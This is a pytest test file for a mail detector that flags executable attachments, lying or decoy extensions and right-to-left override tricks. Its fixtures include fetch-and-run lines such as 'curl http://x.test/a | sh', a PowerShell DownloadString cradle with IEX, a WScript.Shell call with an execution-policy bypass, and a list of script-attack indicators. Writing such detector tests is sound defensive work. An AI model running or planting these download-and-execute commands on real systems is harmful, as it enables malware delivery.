"""ExecutableAttachmentDetector: programs, scripts, lying extensions, decoy extensions, RLO."""

from __future__ import annotations

from typing import Any

import pydantic
import pytest
from helpers_detectors import (
    PDF_BYTES,
    PNG_BYTES,
    attachment,
    by_symbol,
    elf_bytes,
    macho_bytes,
    make_message,
    pe_bytes,
    run,
)

from mailward.detectors.attachments import ExecutableAttachmentDetector as Detector
from mailward.detectors.attachments import native_program, script_indicators
from mailward.model import Attachment, Finding

WINDOWS_JS = (
    b'var shell = new ActiveXObject("WScript.Shell");\n'
    b'shell.Run("powershell -ExecutionPolicy Bypass -c iex(1)");\n'
)


def findings(*atts: Attachment, **settings: Any) -> dict[str, Finding]:
    detector = Detector(Detector.Settings(**settings))
    return by_symbol(run(detector, make_message(attachments=atts)))


# --- ATT_EXECUTABLE by content ------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pe_bytes(), "Windows program"),
        (elf_bytes(), "Linux/Unix program"),
        (macho_bytes(), "macOS program"),
    ],
)
def test_native_program_content_hits_even_under_a_harmless_name(content: bytes, kind: str) -> None:
    att = attachment("report.dat", content)
    assert att.detected_type in {
        "application/vnd.microsoft.portable-executable",
        "application/x-dosexec",
        "application/x-executable",
        "application/x-mach-binary",
    }
    found = findings(att)
    hit = found["ATT_EXECUTABLE"]
    assert kind in hit.explanation
    assert '"report.dat"' in hit.explanation
    assert hit.evidence == ("report.dat",)
    assert hit.factor == 1.0
    assert hit.detector == "attachments"


def test_universal_macho_hits_but_java_class_with_same_magic_misses() -> None:
    fat = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(64)
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)
    assert native_program(fat) is not None
    assert native_program(java) is None
    assert "ATT_EXECUTABLE" in findings(attachment("tool", fat))
    assert findings(attachment("Main.class", java)) == {}


def test_mz_only_as_text_or_not_at_offset_zero_misses() -> None:
    inside = attachment("notes.txt", b"The DOS header starts with MZ and then PE\0\0 follows.\n")
    leading = attachment("mz.txt", b"MZ is the magic of DOS programs, see the notes below.\n")
    assert native_program(inside.content) is None
    assert native_program(leading.content) is None
    assert findings(inside, leading) == {}


def test_mz_with_broken_pe_pointer_is_not_confirmed_by_our_own_check() -> None:
    broken = bytearray(pe_bytes())
    broken[0x3C:0x40] = (0x7FFF_FFFF).to_bytes(4, "little")
    assert native_program(bytes(broken)) is None


def test_libmagic_only_executable_has_lower_factor() -> None:
    # An MZ header without a PE signature: libmagic calls it a DOS program; we cannot confirm.
    dos = attachment("old.bin", b"MZ" + bytes(126))
    assert dos.detected_type == "application/x-dosexec"
    hit = findings(dos)["ATT_EXECUTABLE"]
    assert hit.factor == 0.8
    assert "application/x-dosexec" in hit.explanation


# --- ATT_EXECUTABLE: scripts by content -----------------------------------------------------


def test_windows_script_with_two_indicators_hits_under_txt_name() -> None:
    att = attachment("readme.txt", WINDOWS_JS)
    assert att.detected_type == "text/plain"
    hit = findings(att)["ATT_EXECUTABLE"]
    assert "Windows script code" in hit.explanation
    assert "WScript.Shell" in hit.explanation


def test_one_script_indicator_in_plain_text_misses() -> None:
    att = attachment("notes.txt", b"Our admins said WScript.Shell is blocked by policy now.\n")
    assert script_indicators(att.content) == ["WScript.Shell"]
    assert findings(att) == {}


def test_one_indicator_with_a_script_extension_hits() -> None:
    att = attachment("tool.js", b'var x = new ActiveXObject("Msxml2.XMLHTTP");\n')
    # "js" removed from dangerous_extensions so only the content check can hit.
    assert "ATT_EXECUTABLE" in findings(att, dangerous_extensions=("exe",))
    plain = attachment("tool.js", b"console.log('hello');\n")
    assert findings(plain, dangerous_extensions=("exe",)) == {}


def test_utf16_powershell_is_read() -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\r\n"
    att = attachment("data.txt", b"\xff\xfe" + text.encode("utf-16-le"))
    assert "ATT_EXECUTABLE" in findings(att)


def test_shebang_script_hits_with_lower_factor_and_can_be_switched_off() -> None:
    att = attachment("run", b"#!/bin/sh\ncurl http://x.test/a | sh\n")
    hit = findings(att)["ATT_EXECUTABLE"]
    assert hit.factor == 0.6
    assert "interpreter" in hit.explanation
    assert findings(att, check_scripts=False) == {}


def test_hash_bang_not_on_first_line_misses() -> None:
    assert findings(attachment("notes.txt", b"Use a line like #!/bin/sh at the top.\n")) == {}


# --- ATT_EXECUTABLE: dangerous extensions ---------------------------------------------------


@pytest.mark.parametrize("name", ["setup.exe", "INVOICE.SCR", "run.lnk", "doc.hta. ", "a.vbs"])
def test_dangerous_extension_hits_whatever_the_content(name: str) -> None:
    hit = findings(attachment(name, b"just some text\n"))["ATT_EXECUTABLE"]
    assert "which Windows runs" in hit.explanation


def test_harmless_extension_and_configured_list_miss() -> None:
    assert findings(attachment("notes.txt", b"just some text\n")) == {}
    assert (
        findings(attachment("setup.exe", b"just some text\n"), dangerous_extensions=(".bat",)) == {}
    )
    assert "ATT_EXECUTABLE" in findings(
        attachment("x.BAT", b"echo\n"), dangerous_extensions=(".BAT",)
    )


def test_real_pdf_raises_nothing() -> None:
    att = attachment("invoice.pdf", PDF_BYTES, "application/pdf")
    assert att.detected_type == "application/pdf"
    assert findings(att) == {}


def test_several_executables_make_one_finding_listing_all() -> None:
    found = findings(
        attachment("a.exe", b"x"), attachment("b.txt", b"x"), attachment("c.scr", b"x")
    )
    hit = found["ATT_EXECUTABLE"]
    assert hit.evidence == ("a.exe", "c.scr")
    assert "1 more" in hit.explanation


# --- ATT_TYPE_MISMATCH ----------------------------------------------------------------------


def test_pdf_name_with_program_content_says_both() -> None:
    hit = findings(attachment("invoice.pdf", pe_bytes()))["ATT_TYPE_MISMATCH"]
    assert "PDF document" in hit.explanation
    assert "Windows program" in hit.explanation
    assert hit.evidence == ("invoice.pdf",)


def test_image_name_with_html_content_hits() -> None:
    hit = findings(attachment("photo.jpg", b"<!DOCTYPE html><html><body>login</body></html>"))[
        "ATT_TYPE_MISMATCH"
    ]
    assert "an image" in hit.explanation and "HTML" in hit.explanation


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.jpg", PNG_BYTES),  # another image format: same family
        ("invoice.pdf", PDF_BYTES),
        ("report.xls", b"a,b,c\n1,2,3\n4,5,6\n"),  # CSV exported as .xls
        ("notes.txt", b"plain words\n"),
        ("broken.pdf", b"\x00\x01\x02garbage\xff" * 4),  # libmagic cannot tell: no claim made
        ("archive.bin", pe_bytes()),  # no harmless claim in the name
    ],
)
def test_fitting_or_unknown_content_misses(name: str, content: bytes) -> None:
    assert "ATT_TYPE_MISMATCH" not in findings(attachment(name, content))


# --- ATT_DOUBLE_EXTENSION -------------------------------------------------------------------


@pytest.mark.parametrize("name", ["invoice.pdf.exe", "scan.JPG.js", "invoice.pdf          .exe"])
def test_decoy_extension_hits(name: str) -> None:
    hit = findings(attachment(name, b"x"))["ATT_DOUBLE_EXTENSION"]
    assert "decoy" in hit.explanation


@pytest.mark.parametrize(
    "name", ["report.2024.pdf", "setup.v2.exe", "archive.tar.gz", "invoice.pdf"]
)
def test_ordinary_dotted_names_miss(name: str) -> None:
    assert "ATT_DOUBLE_EXTENSION" not in findings(attachment(name, b"x"))


def test_right_to_left_override_is_reported_explicitly() -> None:
    name = "invoice\u202efdp.exe"
    found = findings(attachment(name, b"x"))
    hit = found["ATT_DOUBLE_EXTENSION"]
    assert "right-to-left override" in hit.explanation
    assert '"invoiceexe.pdf"' in hit.explanation
    assert '".exe" file' in hit.explanation
    assert hit.evidence == ("invoice<U+202E>fdp.exe",)
    assert "\u202e" not in hit.explanation
    assert "ATT_EXECUTABLE" in found


# --- contract -------------------------------------------------------------------------------


def test_settings_reject_unknown_keys() -> None:
    with pytest.raises(pydantic.ValidationError):
        Detector.Settings(dangerous_extension=("exe",))  # type: ignore[call-arg]


def test_findings_are_deterministic() -> None:
    atts = (attachment("invoice.pdf.exe", pe_bytes()), attachment("b.js", WINDOWS_JS))
    assert findings(*atts) == findings(*atts)


@pytest.mark.parametrize(("label", "sample"), [
    ("WScript.Shell", 'var s = WScript.Shell;'),
    ("ActiveXObject", 'new ActiveXObject("x")'),
    ("CreateObject", 'CreateObject("WScript.Shell")'),
    ("WScript object", "WScript.Sleep(100)"),
    ("encoded PowerShell", "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
    ("PowerShell policy bypass", "-ExecutionPolicy Bypass"),
    ("Invoke-Expression", "IEX (New-Object x)"),
    ("Start-Process", "Start-Process calc"),
    ("download cradle", "(New-Object Net.WebClient).DownloadString('x')"),
    ("FromBase64String", "[Convert]::FromBase64String('x')"),
    ("ADODB.Stream", 'CreateObject("ADODB.Stream")'),
    ("system tool abuse", "mshta.exe http://x"),
    ("obfuscated eval", "eval(unescape('%61'))"),
])
def test_each_indicator_is_found_behind_its_prefilter_words(label: str, sample: str) -> None:
    # the substring prefilter must never hide what the pattern finds (mixed case too)
    assert label in script_indicators(f"padding {sample.swapcase()} padding".encode())
    assert label in script_indicators(f"padding {sample} padding".encode())
